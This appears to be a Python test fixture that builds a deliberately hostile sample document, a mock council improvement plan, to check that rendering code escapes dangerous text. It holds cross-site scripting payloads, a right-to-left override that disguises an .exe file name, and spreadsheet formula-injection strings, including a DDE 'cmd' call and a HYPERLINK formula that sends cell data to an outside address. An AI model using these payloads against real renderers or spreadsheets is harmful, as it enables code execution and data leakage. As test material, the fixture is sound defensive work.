"""A plan whose text is meant to do harm where it is shown: mark-up, quotes, marks that turn the reading direction, formulas."""

from __future__ import annotations

SCRIPT = "<script>alert('plan')</script>"
IMAGE = "<img src=x onerror=alert(1)>"
TURNED = "\u202egnp.exe\u202c"  # shown as exe.png by what obeys it
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"More")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1",
)  # fmt: skip
QUOTED = "He said \"no\", 'never'; `x` \\ done"
ORDER = ".. raw:: html"

_ACTIONS = (SCRIPT, IMAGE, TURNED, *FORMULAS, QUOTED, ORDER)


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_plan() -> str:
    """The plan as a text rendition: an action for each kind of harm."""
    points = " ".join(f"<li>1.1.{place} {_escaped(text)}</li>" for place, text in enumerate(_ACTIONS, 1))
    rows = (
        "Pri\tPriority One: Leadership\t\t\t\t",
        "ID\tIssue (Ofsted Para & Rec)\tKey Actions\tTimescale\tLead\tAgency Involvement",
        f"1.1\t=1+1 {_escaped(SCRIPT)} Para 78 Rec 1\t<ul> {points}</ul>\tMar 22\t=cmd\t@agency",
    )
    return "\n".join((
        "# Harrowmere Borough Council Improvement Plan March 2022 – June 2023", "",
        f"# Priority One: Leadership {_escaped(SCRIPT)}", "", f"**Lead officer:** {_escaped(IMAGE)}", "", *rows, "",
    ))  # fmt: skip
